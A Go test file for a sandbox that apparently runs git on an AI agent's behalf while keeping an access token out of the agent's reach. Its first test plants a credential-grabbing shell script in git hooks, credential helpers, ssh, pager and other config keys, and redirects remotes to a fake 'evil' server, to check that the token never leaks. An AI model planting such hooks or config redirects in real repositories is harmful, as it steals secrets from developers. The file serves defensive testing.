//go:build unix

package gitbox_test

import (
	"bytes"
	"context"
	"errors"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"testing/synctest"
	"time"

	"github.com/sandlot-dev/sandlot/host/internal/workspace/gitbox"
	"github.com/sandlot-dev/sandlot/sdk/sandbox"
	"github.com/sandlot-dev/sandlot/test/gitserver"
)

// An agent that wants the token has written all that it can write in its
// repository and its home: none of it sees the token.
func TestAnAgentsConfigurationDoesNotGetTheToken(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	evil, err := gitserver.Start(t.TempDir(), "never served", t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(evil.Close)
	loot := filepath.Join(t.TempDir(), "loot")
	steal := filepath.Join(w.home, "steal")
	// Each call tells that it was run, and what it saw.
	script := "#!/bin/sh\n{ echo ran \"$0\" \"$@\"; env; tr '\\0' '\\n' </proc/$PPID/environ; } >>" + loot + " 2>/dev/null\ncat\n"
	write := func(path, text string) {
		t.Helper()
		if err := errors.Join(os.MkdirAll(filepath.Dir(path), 0o700), os.WriteFile(path, []byte(text), 0o755)); err != nil { //nolint:gosec // programs
			t.Fatal(err)
		}
	}
	write(steal, script)
	for _, hook := range []string{
		"pre-push", "reference-transaction", "post-merge", "post-checkout", "pre-auto-gc", "post-index-change", "pre-rebase", "fsmonitor-watchman", "post-rewrite",
	} {
		write(filepath.Join(w.root, ".git", "hooks", hook), script)
	}
	for _, program := range []string{"git-remote-https", "git-credential-evil", "ssh"} {
		write(filepath.Join(w.home, "bin", program), script)
	}
	w.in(w.root, "git", "config", "filter.evil.smudge", steal)
	w.in(w.root, "git", "config", "filter.evil.clean", steal)
	w.commit(w.root, "with attributes", ".gitattributes", "* filter=evil\n")
	for key, value := range map[string]string{
		"remote.origin.url": evil.URL + "/r.git", "remote.origin.pushurl": evil.URL + "/r.git", "url." + evil.URL + "/.insteadOf": w.server.URL + "/",
		"url." + evil.URL + "/.pushInsteadOf": w.server.URL + "/", "credential.helper": "!" + steal, "credential." + w.server.URL + ".helper": "!" + steal,
		"core.sshCommand": steal, "core.askPass": steal, "core.fsmonitor": steal, "core.hooksPath": filepath.Join(w.root, ".git", "hooks"),
		"core.pager": steal, "core.editor": steal, "core.alternateRefsCommand": steal, "http.proxy": evil.URL, "http." + w.server.URL + ".proxy": evil.URL,
		"http.sslVerify": "false", "http." + w.server.URL + ".sslVerify": "false", "http.sslCAInfo": steal, "http.extraHeader": "X-Evil: 1",
		"remote.origin.vcs": "evil", "remote.origin.receivepack": steal, "uploadpack.packObjectsHook": steal, "gc.auto": "1", "push.gpgSign": "if-asked",
		"gpg.program": steal, "include.path": filepath.Join(w.home, "more"), "trace2.eventTarget": loot + "-trace", "core.gitProxy": steal,
		"remote.pushDefault": "evil", "push.recurseSubmodules": "on-demand", "credential.useHttpPath": "true",
	} {
		w.in(w.root, "git", "config", key, value)
	}
	write(filepath.Join(w.home, ".gitconfig"), "[credential]\n\thelper = !"+steal+"\n[core]\n\thooksPath = "+filepath.Join(w.root, ".git", "hooks")+"\n")
	write(filepath.Join(w.home, ".netrc"), "machine 127.0.0.1 login x password y\n")
	w.path = filepath.Join(w.home, "bin") + ":" + w.path

	head := w.in(w.root, "git", "rev-parse", "HEAD")
	w.ok("push")
	if got := w.served("main"); got != head {
		t.Errorf("main is at %s, want %s", got, head)
	}
	if !strings.Contains(w.stderr.String(), "origin leads to "+evil.URL+"/r.git by now") {
		t.Errorf("it isn't told: %s", &w.stderr)
	}
	other := filepath.Join(filepath.Dir(w.root), "other")
	w.in(filepath.Dir(w.root), "git", "clone", "-q", w.bare, other)
	theirs := w.commit(other, "theirs", "g", "x")
	w.in(other, "git", "push", "-q", "origin", "main")
	w.ok("pull")
	if got := w.in(w.root, "git", "-c", "core.fsmonitor=false", "rev-parse", "HEAD"); got != theirs {
		t.Errorf("at %s after the pull, want %s", got, theirs)
	}
	w.ok("status")

	if seen := evil.Requests(); len(seen) > 0 {
		t.Errorf("the other host was asked: %q", seen)
	}
	stolen, err := os.ReadFile(loot)
	if !strings.Contains(string(stolen), "ran ") {
		t.Errorf("nothing of the agent's was run at all, so this test tells nothing: %v", err)
	}
	if strings.Contains(string(stolen), secretToken) {
		t.Errorf("the token was stolen:\n%s", stolen)
	}
	err = filepath.WalkDir(filepath.Dir(w.root), func(path string, d os.DirEntry, err error) error {
		if err != nil || !d.Type().IsRegular() {
			return err
		}
		text, err := os.ReadFile(path)
		if strings.Contains(string(text), secretToken) {
			t.Errorf("the token is in %s", path)
		}
		return err
	})
	if err != nil {
		t.Error(err)
	}
}

// TestAnotherRepositoryIsNotPushed has an agent put another repository of this
// machine in the place of the workspace's.
func TestAnotherRepositoryIsNotPushed(t *testing.T) {
	t.Parallel()
	for name, replace := range map[string]func(at, to string) error{
		"by a link": func(at, to string) error { return os.Symlink(to, at) },
		"by a file": func(at, to string) error { return os.WriteFile(at, []byte("gitdir: "+to+"\n"), 0o600) },
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			w := newWorld(t)
			other := filepath.Join(filepath.Dir(w.root), "other")
			w.in(filepath.Dir(w.root), "git", "init", "-q", "-b", "private", "other")
			w.commit(other, "private", "f", "x")
			at := filepath.Join(w.root, ".git")
			if err := errors.Join(os.RemoveAll(at), replace(at, filepath.Join(other, ".git"))); err != nil {
				t.Fatal(err)
			}
			for _, args := range [][]string{{"push"}, {"push", "-n"}, {"pull", "origin", "main"}} {
				_, err := w.git(args[0], args[1:]...)
				if !errors.Is(err, sandbox.Denied) || !strings.Contains(err.Error(), "leads to another repository, "+other) {
					t.Errorf("%q: %v", args, err)
				}
			}
			if got := w.served("private"); got != "" {
				t.Errorf("private is at %s", got)
			}
		})
	}
}

// TestASilentGitIsNotWaitedForForEver has a sandbox in which git never answers.
func TestASilentGitIsNotWaitedForForEver(t *testing.T) {
	t.Parallel()
	synctest.Test(t, func(t *testing.T) {
		box := gitbox.Box{Root: "/root", StateDir: "/state", Run: func(ctx context.Context, _ gitbox.Command) (int, error) {
			<-ctx.Done()
			return 0, ctx.Err()
		}}
		src := gitbox.Source{URL: "https://example.com/r.git"}
		for _, verb := range []string{"status", "push", "pull"} {
			var out bytes.Buffer
			_, err := box.Git(t.Context(), src, verb, nil, gitbox.Streams{Stdout: &out, Stderr: &out})
			if !errors.Is(err, sandbox.TimedOut) || !strings.Contains(err.Error(), "git gave no answer within 30s") {
				t.Errorf("%s: %v", verb, err)
			}
		}
		ctx, cancel := context.WithCancel(t.Context())
		cancel()
		_, err := box.Git(ctx, src, "status", nil, gitbox.Streams{})
		if !errors.Is(err, context.Canceled) {
			t.Errorf("canceled: %v", err)
		}
	})
}

// TestAPipeInThePlaceOfAFileIsTold has an agent put pipes where git, some of it
// with the token and for as long as it takes, would read.
func TestAPipeInThePlaceOfAFileIsTold(t *testing.T) {
	t.Parallel()
	for _, name := range []string{"HEAD", "index", "objects/info/alternates", "refs/heads/main", "../.gitattributes", "link"} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			w := newWorld(t)
			pipe, at := filepath.Join(filepath.Dir(w.root), "pipe"), filepath.Join(w.root, ".git", name)
			if name != "link" {
				pipe = at
			}
			if err := os.RemoveAll(at); err != nil {
				t.Fatal(err)
			}
			w.in(w.root, "mkfifo", pipe)
			if name == "link" {
				at = filepath.Join(w.root, ".git", "shallow")
				if err := errors.Join(os.RemoveAll(at), os.Symlink(pipe, at)); err != nil {
					t.Fatal(err)
				}
			}
			for _, verb := range []string{"status", "push", "pull"} {
				ctx, cancel := context.WithTimeout(t.Context(), 20*time.Second)
				_, err := w.box.Git(ctx, w.src, verb, nil, gitbox.Streams{Stdout: &w.stdout, Stderr: &w.stderr})
				cancel()
				if !errors.Is(err, sandbox.Invalid) || !strings.Contains(err.Error(), filepath.Base(at)+" is a pipe") {
					t.Errorf("%s: %v", verb, err)
				}
			}
		})
	}
}
